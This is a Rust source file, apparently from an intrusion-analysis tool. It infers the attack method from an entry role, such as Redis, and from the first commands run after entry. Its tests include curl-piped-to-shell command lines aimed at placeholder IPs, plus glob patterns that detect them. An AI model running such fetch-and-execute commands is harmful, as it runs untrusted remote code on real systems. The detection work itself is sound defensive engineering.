//! an entry's role and its first child commands → the methods that they are consistent with.

use super::entry::Role;
use super::{MethodIdx, MethodMatch, Methods, Stage};

/// First commands looked at.
const MAX_COMMANDS: usize = 32;
const MAX_COMMAND: usize = 4 * 1024;

impl Methods {
    /// The methods that an entry's role and first child commands (in order) are consistent with, the likeliest first.
    /// Where only the role speaks the confidence is low: it is what the method's file gives for it.
    pub fn by_entry(&self, role: Role, first_commands: &[&str]) -> Vec<MethodMatch> {
        let commands: Vec<String> = first_commands
            .iter()
            .take(MAX_COMMANDS)
            .map(|it| it[..it.floor_char_boundary(MAX_COMMAND)].to_lowercase())
            .collect();
        let mut found: Vec<MethodMatch> = self
            .indexed()
            .filter_map(|(at, method)| {
                let alone = *method.entry.get(&role)?;
                let seen = commands.iter().zip(first_commands).find_map(|(command, written)| {
                    method.first_processes.iter().any(|pattern| glob(pattern, command)).then_some(*written)
                });
                Some(judge(at, role, alone, seen))
            })
            .collect();
        found.sort_by_key(|it| (std::cmp::Reverse(it.confidence_permille), it.method));
        found
    }
}

fn judge(method: MethodIdx, role: Role, alone: u16, seen: Option<&str>) -> MethodMatch {
    let mut matched = vec![format!("entered through {}", role.name())];
    let mut confidence_permille = alone.min(900);
    if let Some(command) = seen {
        // A command that fits halves the doubt, at most up to what a chain alone can show.
        confidence_permille += (900 - confidence_permille) / 2;
        matched.push(format!("first ran {}", &command[..command.floor_char_boundary(160)]));
    }
    MethodMatch { method, confidence_permille, stage: Stage::Attacked, matched }
}

/// `*` stands for anything; the pattern may begin anywhere, since shells and paths precede what is run.
fn glob(pattern: &str, text: &str) -> bool {
    let mut rest = text;
    pattern.split('*').filter(|piece| !piece.is_empty()).all(|piece| match rest.find(piece) {
        Some(at) => {
            rest = &rest[at + piece.len()..];
            true
        }
        None => false,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pieces_are_found_in_order() {
        assert!(glob("sh -c*curl*|*sh", "/bin/sh -c curl http://192.0.2.1/a | sh"));
        assert!(!glob("curl*sh -c", "sh -c curl"));
        assert!(glob("", "x"));
    }

    #[test]
    fn redis_that_starts_a_shell_was_entered_as_redis() {
        let methods = Methods::builtin();
        let name = |it: &MethodMatch| methods.get(it.method).id.clone();
        let alone = methods.by_entry(Role::Redis, &[]);
        let seen = methods.by_entry(Role::Redis, &["sh -c curl -fsSL http://192.0.2.7/init.sh | sh"]);
        assert_eq!(name(&alone[0]), "redis_module_load");
        assert_eq!(name(&seen[0]), "redis_module_load");
        assert!(seen[0].confidence_permille > alone[0].confidence_permille);
        assert!(seen[0].confidence_permille >= 600);
    }

    #[test]
    fn a_shell_of_a_user_says_nothing() {
        assert_eq!(Methods::builtin().by_entry(Role::UserShell, &["ls"]), []);
    }
}
